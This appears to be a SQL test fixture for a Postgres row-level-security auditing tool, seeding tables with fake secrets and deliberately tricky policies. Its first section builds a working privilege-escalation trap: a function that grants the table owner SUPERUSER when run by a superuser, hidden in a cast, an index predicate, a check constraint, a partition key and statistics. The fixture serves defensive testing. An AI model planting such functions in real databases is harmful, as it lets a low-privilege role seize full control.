-- Tables of an owner who tries to become a superuser. The ways: a cast of a column's type, the
-- predicate of an index, a partition key, a check constraint and extended statistics.
INSERT INTO auth.users (id, email)
SELECT ('00000000-0000-4000-8000-00000000000' || n)::uuid, 'secret' || n || '@example.com'
    FROM generate_series(1, 4) AS n;
CREATE ROLE app LOGIN;
ALTER TABLE auth.users OWNER TO app;
GRANT USAGE, CREATE ON SCHEMA auth, public TO app;
SET ROLE app;
CREATE FUNCTION public.steal() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE app SUPERUSER;
    END IF;
END $$;
CREATE FUNCTION public.one(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM public.steal(); RETURN 1; END $$;
CREATE TYPE public.kind AS ENUM ('x');
CREATE FUNCTION public.to_json(public.kind) RETURNS json LANGUAGE plpgsql AS $$
BEGIN PERFORM public.steal(); RETURN 'null'; END $$;
CREATE CAST (public.kind AS json) WITH FUNCTION public.to_json(public.kind);
ALTER TABLE auth.users ADD COLUMN kind public.kind DEFAULT 'x';
CREATE TABLE public.docs (user_id uuid REFERENCES auth.users, note text);
INSERT INTO public.docs SELECT id, 'secret' FROM auth.users;
CREATE INDEX ON public.docs (note) WHERE public.one(1) = 1;
CREATE TABLE public.parts (user_id uuid, a integer CHECK (public.one(1) = 1 AND a > 0))
    PARTITION BY RANGE ((a + public.one(1)));
CREATE TABLE public.part PARTITION OF public.parts DEFAULT;
INSERT INTO public.parts SELECT id, 1 FROM auth.users;
CREATE STATISTICS public.s ON (a + public.one(1)), user_id FROM public.part;

-- Secrets in claims and rows. Reports must not show them.
CREATE TABLE public.mails (user_id uuid REFERENCES auth.users, mail text);
INSERT INTO public.mails SELECT id, email FROM auth.users;
CREATE TABLE public.casts (user_id uuid REFERENCES auth.users, note text);
INSERT INTO public.casts SELECT id, 'secret of ' || email FROM auth.users;

-- Policies that depend on a setting, on the time, on a whole row, and on ids that are not UUIDs.
CREATE TABLE public.flagged (user_id uuid REFERENCES auth.users);
INSERT INTO public.flagged SELECT id FROM auth.users;
CREATE TABLE public.clocked (user_id uuid REFERENCES auth.users);
INSERT INTO public.clocked SELECT id FROM auth.users;
CREATE TABLE public.whole (user_id uuid REFERENCES auth.users);
INSERT INTO public.whole SELECT id FROM auth.users;
CREATE FUNCTION public.may(p_row public.whole) RETURNS boolean LANGUAGE plpgsql STABLE AS $$
BEGIN RETURN p_row.user_id = auth.uid(); END $$;
CREATE TABLE public.garbage (user_id text);
INSERT INTO public.garbage VALUES ('no id'), ('00000000-0000-4000-8000-000000000001');

CREATE POLICY p ON public.docs USING (user_id = auth.uid());
CREATE POLICY p ON public.parts USING (user_id = auth.uid());
CREATE POLICY p ON public.mails USING (mail = auth.email());
CREATE POLICY p ON public.casts USING (note::integer > 5);
CREATE POLICY p ON public.flagged USING (user_id = auth.uid()
    OR current_setting('app.admin', true) = 'on');
CREATE POLICY p ON public.clocked USING (extract(year FROM now()) < 2000);
CREATE POLICY p ON public.whole USING (true) WITH CHECK (public.may(whole));
CREATE POLICY p ON public.garbage USING (user_id = auth.uid()::text OR user_id <> '');
DO $$
DECLARE t text;
BEGIN
    FOREACH t IN ARRAY ARRAY[
        'docs', 'parts', 'mails', 'casts', 'flagged', 'clocked', 'whole', 'garbage'
    ] LOOP
        EXECUTE format(
            'ALTER TABLE public.%I ENABLE ROW LEVEL SECURITY;
            GRANT ALL ON public.%1$I TO authenticated', t);
    END LOOP;
END $$;
RESET ROLE;
